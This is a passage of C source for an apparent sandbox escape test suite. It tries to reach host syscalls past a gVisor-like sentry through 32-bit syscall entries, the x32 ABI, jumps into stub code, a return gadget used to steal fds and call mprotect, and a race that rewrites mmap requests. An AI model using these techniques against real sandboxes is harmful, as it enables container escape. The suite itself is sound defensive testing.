/*
 * proc_stub: get host syscalls past the sentry.
 *
 *   proc_stub VICTIM_PID MARKER_DIR
 *
 * Each attack runs in a child and tries two host-visible effects at once:
 * kill(VICTIM_PID, SIGKILL) and mkdir(MARKER_DIR) (a host path; the stubs
 * live in the sentry's mount namespace).  run.sh checks that the victim is
 * alive and MARKER_DIR does not exist.  Routes: the 32-bit syscall entries
 * (int $0x80, sysenter), the x32 ABI, and jumping to the syscall
 * instructions of the systrap stub's code with crafted registers; then
 * remapping, reprotecting and overwriting the stub's code, and scribbling
 * over the child's own shared slot: each may at most kill the child, and the
 * sentry must go on serving this process.  Last, fd theft: a process that
 * receives on the stub's fd-passing socket (fd 3, through the stub's own
 * syscall instruction) while another process maps a file must get nothing
 * (the sentry hands each stub process's fds over a socket of its own).
 * And a read-only tmpfs file (root's, 0444, opened read-only as uid 65534)
 * must not be written through a mapping: neither by a sibling thread that
 * rewrites the mapping thread's mmap request in its slot (private into
 * shared), nor by an mprotect made through the stub's code (the fd the
 * stub was handed is read-only).
 */
#include "attack.h"

#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <stddef.h>
#include <ucontext.h>

#define STUB_START 0x7e0000000000UL
#define STUB_CODE_LEN (16 * 1024)
#define SLOT_START (STUB_START + 0x10000UL)

static pid_t victim;
static char *marker;     /* the marker path, in memory below 4 GiB */
static sigjmp_buf jb;

static void on_fault(int sig)
{
    siglongjmp(jb, sig);
}

static int readable(const volatile unsigned char *p)
{
    struct sigaction sa = {.sa_handler = on_fault}, o1, o2;
    int ok = 0;

    sigaction(SIGSEGV, &sa, &o1);
    sigaction(SIGBUS, &sa, &o2);
    if (sigsetjmp(jb, 1) == 0) {
        (void)*p;
        ok = 1;
    }
    sigaction(SIGSEGV, &o1, NULL);
    sigaction(SIGBUS, &o2, NULL);
    return ok;
}

/* Runs FN in a child, at most 3 s; describes how it ended.  Returns the
 * child's wait status, or -1 if it hung and was killed. */
static int run_attack(const char *name, void (*fn)(void *), void *arg)
{
    int st = 0;
    pid_t p = fork();

    if (p == 0) {
        fn(arg);
        _exit(0);
    }
    for (int i = 0; i < 300; i++) {
        if (waitpid(p, &st, WNOHANG) == p)
            goto done;
        usleep(10000);
    }
    kill(p, SIGKILL);
    waitpid(p, &st, 0);
    refused(name, "the child hung and was killed (host effects: run.sh)");
    return -1;
done:
    if (WIFSIGNALED(st))
        refused(name, "the child died of signal %d (host effects: run.sh)", WTERMSIG(st));
    else
        refused(name, "the child exited %d (host effects: run.sh)", WEXITSTATUS(st));
    return st;
}

/* The i386 entries must end the child as Linux without IA32 emulation
 * would (the sandbox has no i386 syscalls): SIGSEGV, or SIGILL for sysenter
 * on AMD (#UD); not a hang, a SIGKILL or an answer. */
static void expect_death(const char *name, int st, int sig)
{
    control(name, st >= 0 && WIFSIGNALED(st) && WTERMSIG(st) == sig,
            "want death by signal %d, got %s %d", sig,
            st < 0 ? "a hang" : WIFSIGNALED(st) ? "signal" : "exit",
            st < 0 ? 0 : WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st));
}

static int is_amd(void)
{
    unsigned a, b, c, d;

    __asm__ volatile("cpuid" : "=a"(a), "=b"(b), "=c"(c), "=d"(d) : "a"(0));
    return b == 0x68747541;   /* "Auth"enticAMD */
}

static long int80(long nr, long a, long b)
{
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b) : "memory");
    return r;
}

static void a_int80(void *arg)
{
    (void)arg;
    long r1 = int80(37, victim, SIGKILL);          /* i386 kill */
    long r2 = int80(39, (long)(uintptr_t)marker, 0755); /* i386 mkdir */
    long r3 = int80(20, 0, 0);                     /* i386 getpid */
    printf("    int $0x80: kill %ld, mkdir %ld, getpid %ld (ours %d)\n", r1, r2, r3, getpid());
    _exit(r3 > 0 && r3 != getpid() ? 3 : 0);
}

static void a_sysenter(void *arg)
{
    long r;
    (void)arg;
    __asm__ volatile("mov %%rsp, %%rbp; sysenter" : "=a"(r) : "a"(37L), "b"((long)victim), "c"(9L)
                     : "memory", "rbp");
    _exit(0);
}

/* The same with %ebp at readable memory below 4 GiB, whose first word a
 * host's compat sysenter entry reads (arg 6): there it would make the
 * syscall. */
static void a_sysenter_ebp32(void *arg)
{
    long r;
    (void)arg;
    __asm__ volatile("mov %%ecx, %%ebp; mov $9, %%ecx; sysenter" : "=a"(r)
                     : "a"(37L), "b"((long)victim), "c"((long)(uintptr_t)marker)
                     : "memory", "rbp");
    _exit(0);
}

static void a_x32(void *arg)
{
    (void)arg;
    long r1 = syscall(0x40000000L | SYS_kill, victim, SIGKILL);
    long r2 = syscall(0x40000000L | SYS_mkdir, marker, 0755);
    long r3 = syscall(0x40000000L | SYS_getpid);
    printf("    x32: kill %ld, mkdir %ld, getpid %ld\n", r1, r2, r3);
    _exit(r3 > 0 && r3 != getpid() ? 3 : 0);
}

/* Jump to ADDR (a syscall instruction in the stub) with the registers of
 * syscall NR. */
static void jump_syscall(uintptr_t addr, long nr, long a0, long a1, long a2)
{
    __asm__ volatile("mov %1, %%rdi; mov %2, %%rsi; mov %3, %%rdx; mov %4, %%rax; jmp *%0"
                     :
                     : "r"(addr), "r"(a0), "r"(a1), "r"(a2), "r"(nr)
                     : "rdi", "rsi", "rdx", "rax", "memory");
}

static uintptr_t stub_syscalls[8];
static int n_stub_syscalls;

static void find_stub_syscalls(void)
{
    const unsigned char *c = (const unsigned char *)STUB_START;

    if (!readable(c))
        return;
    for (size_t i = 0; i + 1 < STUB_CODE_LEN && n_stub_syscalls < 8; i++) {
        if (!readable(c + i + 1))
            break;
        if (c[i] == 0x0f && c[i + 1] == 0x05)
            stub_syscalls[n_stub_syscalls++] = STUB_START + i;
    }
}

struct jump {
    uintptr_t addr;
    long nr, a0, a1, a2;
};

static void a_jump(void *arg)
{
    struct jump *j = arg;
    jump_syscall(j->addr, j->nr, j->a0, j->a1, j->a2);
}

static void a_write_stub_code(void *arg)
{
    (void)arg;
    *(volatile unsigned char *)(STUB_START + 16) = 0xcc;
    _exit(0);
}

static void a_scribble_slots(void *arg)
{
    int n = 0;
    (void)arg;
    /* Our own slot is mapped in our address space somewhere among these;
     * others' are not (MADV_DONTFORK). */
    for (int i = 0; i < 4096; i++) {
        unsigned char *s = (unsigned char *)(SLOT_START + (uintptr_t)i * 0x10000);
        if (!readable(s))
            continue;
        n++;
        for (size_t k = 0; k < 0x10000; k += 8)
            *(volatile uint64_t *)(s + k) = 0x4141414141414141ULL ^ (k * 0x9e3779b97f4a7c15ULL);
    }
    _exit(n == 0 ? 7 : 0);
}

/* Is the marker at the start of any 64 KiB step of the stub region? */
/* Where MARK starts a 64 KiB-aligned piece of the stub region, or NULL. */
static volatile unsigned char *find_in_stub_region(const char *mark, size_t len)
{
    for (uintptr_t a = STUB_START; a < STUB_START + (3UL << 29); a += 0x10000) {
        if (readable((const unsigned char *)a) && memcmp((const void *)a, mark, len) == 0)
            return (volatile unsigned char *)a;
    }
    return NULL;
}

/* A file read with large reads is mapped in the stub region (systrap's file
 * windows) while open: once closed, its data must be gone from there. */
static void closed_file_window(void)
{
    static const char mark[] = "proc_stub closed-file marker";
    const char *path = "/tmp/proc_stub_window";
    int fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0600);
    char *b = malloc(1 << 20);
    if (fd < 0 || !b) {
        escaped("closed-file-window", "setup: %s", strerror(errno));
        return;
    }
    memset(b, 'x', 1 << 20);
    memcpy(b, mark, sizeof mark);
    for (int i = 0; i < 4; i++)
        if (write(fd, b, 1 << 20) != 1 << 20)
            break;
    for (int pass = 0; pass < 3; pass++) {
        lseek(fd, 0, SEEK_SET);
        while (read(fd, b, 128 << 10) > 0)
            ;
    }
    close(fd);
    unlink(path);
    free(b);
    if (find_in_stub_region(mark, sizeof mark))
        escaped("closed-file-window", "the closed file's data is readable in the stub region");
    else
        refused("closed-file-window", "no trace of the closed file in the stub region");
}

static void a_nothing(void *arg)
{
    (void)arg;
}

/* --- host signals blocked in the stub ------------------------------------------- */

static volatile sig_atomic_t mask_alarms;

static void on_mask_alarm(int sig)
{
    (void)sig;
    mask_alarms++;
}

/* Blocks every host signal of its stub (an rt_sigreturn made by the stub's
 * code, arg: one of its syscall instructions, with a frame of ours), makes
 * one trapped syscall, then computes without syscalls until a SIGALRM
 * arrives: delivering it takes a host signal (the sentry's kick) to the
 * stub.  The trapped syscall must have unblocked them (systrap's SIGSYS
 * handler returns through rt_sigreturn with an empty mask when guest code
 * ran with some blocked); otherwise the sentry kills the unanswering stub
 * after 2 s.  Exits 0 once the alarm came (run_attack ends a child that
 * hangs). */
static void a_mask_block(void *arg)
{
    uintptr_t sc = *(const uintptr_t *)arg;
    struct sigaction sa = {.sa_handler = on_mask_alarm};
    sigaction(SIGALRM, &sa, NULL);
    uint64_t slot;
    __asm__ volatile("rdgsbase %0" : "=r"(slot));
    static ucontext_t uc __attribute__((aligned(64)));
    memset(&uc, 0, sizeof uc);
    uc.uc_stack.ss_sp = (void *)(slot + 0x8000);   /* the stub's own signal stack */
    uc.uc_stack.ss_size = 0x8000;
    uc.uc_mcontext.gregs[REG_CSGSFS] = 0x33 | (0x2bLL << 48);
    uc.uc_mcontext.gregs[REG_EFL] = 0x202;
    /* Every signal but SIGSYS: a trap with SIGSYS blocked kills the stub
     * (the kernel's force_sig resets its handler), which is no news. */
    uint64_t blocked = ~(1ULL << (SIGSYS - 1));
    memcpy(&uc.uc_sigmask, &blocked, sizeof blocked);
#define GREG(r) "i"(offsetof(ucontext_t, uc_mcontext.gregs) + (r) * 8)
    __asm__ volatile("lea 1f(%%rip), %%rax\n\t"
                     "mov %%rax, %c[rip](%[uc])\n\t"
                     "mov %%rsp, %c[rsp](%[uc])\n\t"
                     "mov %%rbp, %c[rbp](%[uc])\n\t"
                     "mov %%rbx, %c[rbx](%[uc])\n\t"
                     "mov %%r12, %c[r12](%[uc])\n\t"
                     "mov %%r13, %c[r13](%[uc])\n\t"
                     "mov %%r14, %c[r14](%[uc])\n\t"
                     "mov %%r15, %c[r15](%[uc])\n\t"
                     "mov %[uc], %%rsp\n\t"
                     "mov $15, %%eax\n\t"             /* rt_sigreturn */
                     "jmp *%[sc]\n\t"
                     "1:"
                     :
                     : [uc] "r"(&uc), [sc] "r"(sc), [rip] GREG(REG_RIP), [rsp] GREG(REG_RSP),
                       [rbp] GREG(REG_RBP), [rbx] GREG(REG_RBX), [r12] GREG(REG_R12),
                       [r13] GREG(REG_R13), [r14] GREG(REG_R14), [r15] GREG(REG_R15)
                     : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory", "cc",
                       "xmm0", "xmm1", "xmm2", "xmm3", "xmm4", "xmm5", "xmm6", "xmm7", "xmm8",
                       "xmm9", "xmm10", "xmm11", "xmm12", "xmm13", "xmm14", "xmm15");
#undef GREG
    syscall(SYS_getppid);   /* (syscall(): not a patchable site) */
    struct itimerval it = {.it_value = {0, 200 * 1000}};
    setitimer(ITIMER_REAL, &it, NULL);
    while (!mask_alarms)
        ;
    _exit(0);
}

/* --- fd theft ------------------------------------------------------------- */

/* A syscall instruction of the stub that returns to its caller when the
 * result is not 0: "syscall; test %rax,%rax; jz X; pop %r1N..." then "ret"
 * (systrap_do_clone's).  Its address, and how many words it pops. */
static uintptr_t ret_gadget;
static int ret_gadget_pops;

static void find_ret_gadget(void)
{
    for (int i = 0; i < n_stub_syscalls; i++) {
        const unsigned char *c = (const unsigned char *)stub_syscalls[i];
        if (!readable(c + 16) || c[2] != 0x48 || c[3] != 0x85 || c[4] != 0xc0 || c[5] != 0x74)
            continue;
        int pops = 0, k = 7;
        while (pops < 4 && c[k] == 0x41 && c[k + 1] >= 0x58 && c[k + 1] <= 0x5f) {
            pops++;
            k += 2;
        }
        if (c[k] == 0xc3) {
            ret_gadget = (uintptr_t)c;
            ret_gadget_pops = pops;
            return;
        }
    }
}

/* A host syscall made by the stub's code for us (the gadget), as guest code
 * that took over a stub process would make it: the stub's filter allows
 * recvmsg on fd 3 and mmap from there. */
static long gadget_syscall(long nr, long a0, long a1, long a2, long a3, long a4, long a5)
{
    long ret;
    register long r10 __asm__("r10") = a3;
    register long r8 __asm__("r8") = a4;
    register long r9 __asm__("r9") = a5;
    __asm__ volatile("sub $128, %%rsp\n\t"          /* our red zone */
                     "lea 1f(%%rip), %%rcx\n\t"
                     "push %%rcx\n\t"                /* what the gadget's ret takes */
                     "mov %[pops], %%ecx\n\t"
                     "2: test %%ecx, %%ecx\n\t"
                     "jz 3f\n\t"
                     "push $0\n\t"                   /* what its pops take */
                     "dec %%ecx\n\t"
                     "jmp 2b\n\t"
                     "3: jmp *%[g]\n\t"
                     "1: add $128, %%rsp"
                     : "=a"(ret), "+r"(r10), "+r"(r8), "+r"(r9)
                     : "a"(nr), "D"(a0), "S"(a1), "d"(a2), [g] "b"(ret_gadget),
                       [pops] "m"(ret_gadget_pops)
                     : "rcx", "r11", "r12", "r13", "r14", "r15", "memory", "cc");
    return ret;
}

#define FDSTEAL_MAPS 3000
#define FDSTEAL_MARK "fd-theft-victim-"

struct fdsteal {
    volatile int victim_done;   /* shared between the processes (MAP_SHARED) */
    volatile int thief_ready;
    int victim_failures;
    int stolen;                 /* fds the thief received */
    int read_victim;            /* ... of which it mapped the victim's file */
    char path[64];
    char page[4096] __attribute__((aligned(4096)));
};

/* The victim: another process (another address space) mapping a file of
 * its own, over and over; each mapping hands the file's host fd to its
 * stub. */
static void a_fdsteal_victim(void *arg)
{
    struct fdsteal *fs = arg;
    int fd = open(fs->path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        _exit(2);
    for (int i = 0; i < 1000000 && !fs->thief_ready; i++)
        sched_yield();
    for (int i = 0; i < FDSTEAL_MAPS; i++) {
        void *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
        if (p == MAP_FAILED)
            fs->victim_failures++;
        else
            munmap(p, 4096);
    }
    fs->victim_done = 1;
    _exit(0);
}

/* The thief: receives on its stub's fd-passing socket meanwhile, and maps
 * what it gets over its own page. */
static void a_fdsteal_thief(void *arg)
{
    struct fdsteal *fs = arg;
    char byte;
    struct iovec iov = {&byte, 1};
    union {
        struct cmsghdr h;
        char buf[CMSG_SPACE(sizeof(int))];
    } control;
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
    fs->thief_ready = 1;
    for (long i = 0; i < 100000000L && !fs->victim_done; i++) {
        msg.msg_control = control.buf;
        msg.msg_controllen = sizeof control.buf;
        long r = gadget_syscall(SYS_recvmsg, 3, (long)&msg, MSG_DONTWAIT, 0, 0, 0);
        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
        if (r <= 0 || !c || c->cmsg_type != SCM_RIGHTS)
            continue;
        int fd;
        memcpy(&fd, CMSG_DATA(c), sizeof fd);
        fs->stolen++;
        long m = gadget_syscall(SYS_mmap, (long)fs->page, 4096, PROT_READ,
                                MAP_SHARED | MAP_FIXED, fd, 0);
        if (m == (long)fs->page && memcmp(fs->page, FDSTEAL_MARK, strlen(FDSTEAL_MARK)) == 0)
            fs->read_victim++;
    }
    _exit(0);
}

static void attack_fdsteal(void)
{
    if (!ret_gadget) {
        refused("fdpass-steal", "no returning syscall gadget in the stub (ptrace platform: "
                "guest code makes no host syscall)");
        return;
    }
    struct fdsteal *fs = mmap(NULL, sizeof *fs, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS,
                              -1, 0);
    if (fs == MAP_FAILED) {
        printf("setup: mmap: %s\n", strerror(errno));
        return;
    }
    snprintf(fs->path, sizeof fs->path, "/tmp/fdsteal.%d", getpid());
    int fd = open(fs->path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    char content[4096] = FDSTEAL_MARK;
    if (fd < 0 || write(fd, content, sizeof content) != sizeof content) {
        printf("setup: %s: %s\n", fs->path, strerror(errno));
        return;
    }
    close(fd);
    pid_t thief = fork();
    if (thief == 0)
        a_fdsteal_thief(fs);
    pid_t victim = fork();
    if (victim == 0)
        a_fdsteal_victim(fs);
    int st_thief = 0, st_victim = 0;
    waitpid(victim, &st_victim, 0);
    fs->victim_done = 1;
    waitpid(thief, &st_thief, 0);
    unlink(fs->path);
    printf("    %d mappings by the victim (%d failed); the thief received %d fds, %d of them "
           "the victim's file; thief status %#x\n", FDSTEAL_MAPS, fs->victim_failures,
           fs->stolen, fs->read_victim, st_thief);
    if (fs->stolen > 0)
        escaped("fdpass-steal", "received %d fds meant for another process's stub (%d mapped "
                "its file)", fs->stolen, fs->read_victim);
    else if (fs->victim_failures > 0)
        escaped("fdpass-steal", "the victim's mappings failed %d times", fs->victim_failures);
    else
        refused("fdpass-steal", "nothing received on fd 3 while another process mapped a "
                "file %d times", FDSTEAL_MAPS);
    munmap(fs, sizeof *fs);
}

/* --- a read-only tmpfs file written through its mapping ------------------- */

/* A file root made read-only (0444) in the sandbox's /tmp, and a process of
 * another uid that may only read it.  The host fd the sentry hands the
 * stub for a mapping of it must carry no more than that: guest code can
 * rewrite the request in its shared slot while its stub reads it (another
 * thread of the process), and can make mprotect itself (the gadget). */
#define RO_UID 65534
#define RO_MARK "proc_stub read-only file"
#define RACE_MAPS 20000

struct rofile {
    char path[64];
    int fd;
    unsigned char *slot;        /* the mapping thread's slot */
    volatile int stop;
    long flips;                 /* requests the racer rewrote */
};

/* The racer: turns every file mmap request in the slot into a shared one. */
static void *ro_racer(void *arg)
{
    struct rofile *rf = arg;
    volatile uint64_t *a = (volatile uint64_t *)(rf->slot + 0x98);   /* SLOT_ARGS */
    while (!rf->stop) {
        uint64_t flags = a[4];
        if (a[0] == SYS_mmap && (flags & MAP_TYPE) == MAP_PRIVATE && a[5] < 1024) {
            a[4] = (flags & ~(uint64_t)MAP_TYPE) | MAP_SHARED;
            rf->flips++;
        }
    }
    return NULL;
}

/* 1 if byte V of the file is what the guest wrote at its mapping's start. */
static int file_has(struct rofile *rf, unsigned char v)
{
    unsigned char b = 0;
    return pread(rf->fd, &b, 1, 0) == 1 && b == v;
}

static void a_ro_race(void *arg)
{
    struct rofile *rf = arg;
    if (setgid(RO_UID) < 0 || setuid(RO_UID) < 0)
        _exit(10);
    if ((rf->fd = open(rf->path, O_RDONLY | O_CLOEXEC)) < 0)
        _exit(11);
    if (open(rf->path, O_RDWR | O_CLOEXEC) >= 0)
        _exit(12);   /* the control: it may not write the file */
    /* Our one thread's slot, before the racer has one. */
    for (int i = 0; i < 4096 && !rf->slot; i++) {
        unsigned char *s = (unsigned char *)(SLOT_START + (uintptr_t)i * 0x10000);
        if (readable(s))
            rf->slot = s;
    }
    if (!rf->slot)
        _exit(13);
    pthread_t th;
    if (pthread_create(&th, NULL, ro_racer, rf) != 0)
        _exit(14);
    int written = 0;
    for (int i = 0; i < RACE_MAPS; i++) {
        /* Private and writable: writes are copies of the page, unless the
         * host mapping became shared. */
        volatile unsigned char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, rf->fd, 0);
        if (p == MAP_FAILED)
            continue;
        /* Not what the file holds now: a match is this write's. */
        unsigned char v = 0;
        if (pread(rf->fd, &v, 1, 0) != 1)
            _exit(15);
        v = v == 255 ? 1 : v + 1;
        p[0] = v;
        if (file_has(rf, v))
            written++;
        munmap((void *)p, 4096);
    }
    rf->stop = 1;
    pthread_join(th, NULL);
    printf("    %d private mappings, %ld requests rewritten, %d wrote the file\n", RACE_MAPS,
           rf->flips, written);
    fflush(stdout);
    _exit(written ? 1 : 0);
}

/* The gadget returns only when the result is not 0: a successful mprotect
 * goes on into the stub's clone-child code, stub_child_start(%r12, %r13).
 * Given a slot of our own (fake) there and fd 3, that sets up and waits
 * for a sentry that never answers.  So it is made by a process sharing our
 * memory (CLONE_VM), which says how it went through the fake slot. */
struct fake_slot {
    char s[0x10000] __attribute__((aligned(4096)));
    volatile int refused;
};

static long gadget_mprotect(void *addr, struct fake_slot *fake)
{
    long ret;
    register long r12 __asm__("r12") = (long)fake->s;
    register long r13 __asm__("r13") = 3;
    __asm__ volatile("sub $128, %%rsp\n\t"
                     "lea 1f(%%rip), %%rcx\n\t"
                     "push %%rcx\n\t"
                     "mov %[pops], %%ecx\n\t"
                     "2: test %%ecx, %%ecx\n\t"
                     "jz 3f\n\t"
                     "push %%r13\n\t"              /* (popped into r13, r12) */
                     "dec %%ecx\n\t"
                     "jmp 2b\n\t"
                     "3: jmp *%[g]\n\t"
                     "1: add $128, %%rsp"
                     : "=a"(ret), "+r"(r12), "+r"(r13)
                     : "a"((long)SYS_mprotect), "D"(addr), "S"(4096L),
                       "d"((long)(PROT_READ | PROT_WRITE)), [g] "b"(ret_gadget),
                       [pops] "m"(ret_gadget_pops)
                     : "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
    return ret;
}

static void *ro_page;

static int ro_mprotect_child(void *arg)
{
    struct fake_slot *fake = arg;
    long r = gadget_mprotect(ro_page, fake);
    fake->refused = r == -EACCES ? 1 : 2;
    _exit(0);
}

/* 1 if a byte store at P works (our guest's own view aside: the host's). */
static int writable(volatile unsigned char *p, unsigned char v)
{
    struct sigaction sa = {.sa_handler = on_fault}, o1, o2;
    int ok = 0;

    sigaction(SIGSEGV, &sa, &o1);
    sigaction(SIGBUS, &sa, &o2);
    if (sigsetjmp(jb, 1) == 0) {
        *p = v;
        ok = 1;
    }
    sigaction(SIGSEGV, &o1, NULL);
    sigaction(SIGBUS, &o2, NULL);
    return ok;
}

/* Has a process sharing our memory make mprotect(page, 4096, PROT_READ |
 * PROT_WRITE) through the stub's code; 1 if that was refused with EACCES.
 * Either the gadget returns (refused), or the stub's code it runs on into
 * marks the fake slot ready and waits there for good (or on its socket:
 * the wait is bounded), and the process is killed. */
static int mprotect_by_stub(void *page)
{
    static char stack[64 * 1024] __attribute__((aligned(16)));
    /* The CLONE_VM process's stack and its slot: our memory. */
    struct fake_slot *fake = mmap(NULL, sizeof *fake, PROT_READ | PROT_WRITE,
                                  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (fake == MAP_FAILED)
        _exit(13);
    ro_page = page;
    pid_t c = clone(ro_mprotect_child, stack + sizeof stack, CLONE_VM | SIGCHLD, fake);
    if (c < 0)
        _exit(14);
    struct stub_slot_head { uint32_t state, sentry_waiting, stub_waiting, event; };
    volatile struct stub_slot_head *h = (volatile struct stub_slot_head *)fake->s;
    double t0 = now_s();
    while (!fake->refused && h->event == 0 && now_s() - t0 < 5)
        sched_yield();
    if (!fake->refused)
        kill(c, SIGKILL);
    return fake->refused == 1;
}

/* Shared and read-only, then mprotect made by the stub's code for us. */
static void a_ro_mprotect(void *arg)
{
    struct rofile *rf = arg;
    if (setgid(RO_UID) < 0 || setuid(RO_UID) < 0)
        _exit(10);
    if ((rf->fd = open(rf->path, O_RDONLY | O_CLOEXEC)) < 0)
        _exit(11);
    volatile unsigned char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, rf->fd, 0);
    if (p == MAP_FAILED)
        _exit(12);
    int refused = mprotect_by_stub((void *)p);
    int w = writable(p, 0x77);
    printf("    mprotect(PROT_WRITE) of the shared mapping by the stub's code: %s; the "
           "page is %swritable\n", refused ? "EACCES" : "done", w ? "" : "not ");
    fflush(stdout);
    _exit(w && file_has(rf, 0x77) ? 1 : 0);
}

/* A file window (systrap: a file read again while open is mapped in the
 * stub region, and the stub copies from there): made writable by mprotect
 * from the stub's code, it must not write the file. */
static void a_ro_window(void *arg)
{
    struct rofile *rf = arg;
    if (setgid(RO_UID) < 0 || setuid(RO_UID) < 0)
        _exit(10);
    if ((rf->fd = open(rf->path, O_RDONLY | O_CLOEXEC)) < 0)
        _exit(11);
    char *b = malloc(128 << 10);
    for (int pass = 0; b && pass < 3; pass++) {
        lseek(rf->fd, 0, SEEK_SET);
        while (read(rf->fd, b, 128 << 10) > 0)
            ;
    }
    volatile unsigned char *win = find_in_stub_region(RO_MARK, sizeof RO_MARK);
    if (!win) {
        printf("    no window of the file in the stub region\n");
        fflush(stdout);
        _exit(0);
    }
    int refused = mprotect_by_stub((void *)win);
    int w = writable(win, 0x77);
    printf("    window at %p; mprotect(PROT_WRITE) by the stub's code: %s; the page is "
           "%swritable\n", (void *)win, refused ? "EACCES" : "done", w ? "" : "not ");
    fflush(stdout);
    _exit(w && file_has(rf, 0x77) ? 1 : 0);
}

static void attack_ro_file_sized(const char *name, void (*fn)(void *), size_t size);

static void attack_ro_file(const char *name, void (*fn)(void *))
{
    attack_ro_file_sized(name, fn, 4096);
}

/* The file (SIZE bytes, RO_MARK first) is root's, mode 0444. */
static void attack_ro_file_sized(const char *name, void (*fn)(void *), size_t size)
{
    struct rofile *rf = mmap(NULL, sizeof *rf, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS,
                             -1, 0);
    if (rf == MAP_FAILED) {
        printf("setup: mmap: %s\n", strerror(errno));
        return;
    }
    snprintf(rf->path, sizeof rf->path, "/tmp/rofile.%d", getpid());
    unlink(rf->path);
    int fd = open(rf->path, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0444);
    static const char content[4096] = RO_MARK;
    size_t done = 0;
    while (fd >= 0 && done < size && write(fd, content, sizeof content) == sizeof content)
        done += sizeof content;
    if (fd < 0 || done < size) {
        printf("setup: %s: %s\n", rf->path, strerror(errno));
        return;
    }
    close(fd);
    int st = in_child(fn, rf);
    unlink(rf->path);
    if (st < 0)
        printf("setup: fork: %s\n", strerror(errno));
    else if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
        escaped(name, "uid %d wrote %s (root's, mode 0444) through a mapping", RO_UID, rf->path);
    else if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
        refused(name, "the file is unchanged");
    else if (WIFEXITED(st) && WEXITSTATUS(st) == 13)
        refused(name, "no slot in the address space (ptrace platform)");
    else
        printf("setup: %s: child status %#x\n", name, st);
    munmap(rf, sizeof *rf);
}

int main(int argc, char **argv)
{
    attack_begin("proc");
    if (argc < 3)
        return 2;
    victim = atoi(argv[1]);
    marker = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (marker == MAP_FAILED) {
        printf("setup: mmap MAP_32BIT: %s\n", strerror(errno));
        return 2;
    }
    snprintf(marker, 4096, "%s", argv[2]);

    expect_death("int80-as-linux", run_attack("int80-kill-mkdir-getpid", a_int80, NULL), SIGSEGV);
    expect_death("sysenter-as-linux", run_attack("sysenter-kill", a_sysenter, NULL),
                 is_amd() ? SIGILL : SIGSEGV);
    expect_death("sysenter-ebp32-as-linux", run_attack("sysenter-ebp32-kill", a_sysenter_ebp32, NULL),
                 is_amd() ? SIGILL : SIGSEGV);
    run_attack("x32-kill-mkdir-getpid", a_x32, NULL);

    find_stub_syscalls();
    printf("  %d syscall instructions in the stub's first %d bytes\n", n_stub_syscalls, STUB_CODE_LEN);
    for (int i = 0; i < n_stub_syscalls && i < 4; i++) {
        char nm[64];
        struct jump j = {stub_syscalls[i], SYS_kill, victim, SIGKILL, 0};
        snprintf(nm, sizeof nm, "stub-jump-%d-kill", i);
        run_attack(nm, a_jump, &j);
        j = (struct jump){stub_syscalls[i], SYS_mkdir, (long)(uintptr_t)marker, 0755, 0};
        snprintf(nm, sizeof nm, "stub-jump-%d-mkdir", i);
        run_attack(nm, a_jump, &j);
        j = (struct jump){stub_syscalls[i], SYS_mprotect, STUB_START, STUB_CODE_LEN, 7};
        snprintf(nm, sizeof nm, "stub-jump-%d-mprotect-code", i);
        run_attack(nm, a_jump, &j);
        j = (struct jump){stub_syscalls[i], SYS_clone, SIGCHLD, 0, 0};
        snprintf(nm, sizeof nm, "stub-jump-%d-clone", i);
        run_attack(nm, a_jump, &j);
    }
    if (n_stub_syscalls == 0)
        refused("stub-jump", "no stub code visible at %#lx (ptrace platform?)", STUB_START);
    if (n_stub_syscalls > 0) {
        int st = run_attack("stub-mask-block", a_mask_block, &stub_syscalls[0]);
        if (st >= 0 && WIFEXITED(st) && WEXITSTATUS(st) == 0)
            refused("stub-mask-block-kick", "the next trapped syscall unblocked the stub's host "
                    "signals: a SIGALRM reached code that makes no syscall");
        else
            escaped("stub-mask-block-kick", "guest code kept its stub's host signals blocked "
                    "(status %#x): the sentry cannot interrupt it", st);
    }

    void *m = mmap((void *)STUB_START, STUB_CODE_LEN, PROT_READ | PROT_WRITE | PROT_EXEC,
                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    expect_fail("mmap-fixed-over-stub", m == MAP_FAILED ? -1 : 0);
    m = mmap((void *)SLOT_START, 0x10000, PROT_READ | PROT_WRITE,
             MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (m == MAP_FAILED)
        refused("mmap-over-slots", "%s", attack_errname(errno));
    else
        refused("mmap-over-slots", "an unused part of the region (the guest's own memory)");
    expect_fail("mprotect-stub-writable", mprotect((void *)STUB_START, 4096, PROT_READ | PROT_WRITE | PROT_EXEC));
    expect_fail("munmap-stub", munmap((void *)STUB_START, STUB_CODE_LEN) == 0 &&
                                       !readable((unsigned char *)STUB_START) ? 0 : -1);
    expect_fail("mremap-stub", (long)mremap((void *)STUB_START, 4096, 8192, MREMAP_MAYMOVE) == -1 ? -1 : 0);
    find_ret_gadget();
    attack_fdsteal();
    if (ret_gadget)
        attack_ro_file("ro-tmpfs-gadget-mprotect", a_ro_mprotect);
    else
        refused("ro-tmpfs-gadget-mprotect", "no returning syscall gadget in the stub (ptrace platform)");
    attack_ro_file("ro-tmpfs-slot-race", a_ro_race);
    if (ret_gadget)
